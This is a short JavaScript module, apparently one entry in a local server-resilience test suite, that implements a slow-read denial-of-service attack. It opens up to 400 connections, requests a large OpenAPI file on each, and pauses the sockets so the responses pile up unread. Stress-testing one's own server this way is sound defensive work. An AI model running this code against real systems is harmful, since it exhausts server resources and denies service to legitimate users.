// Answers that nobody reads: the longest that the server has for everybody.

import { connect } from './connection.mjs';

export const title = 'unread answers';
const AT_ONCE = 400;

export async function attack(where) {
  const open = new Set();
  for (;;) {
    const socket = open.size < AT_ONCE ? await connect(where) : null;
    if (!socket) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      continue;
    }
    open.add(socket);
    socket.on('close', () => open.delete(socket)).pause();
    socket.write(`GET /api/openapi.json HTTP/1.1\r\nHost: 127.0.0.1:${where.port}\r\n\r\n`);
  }
}
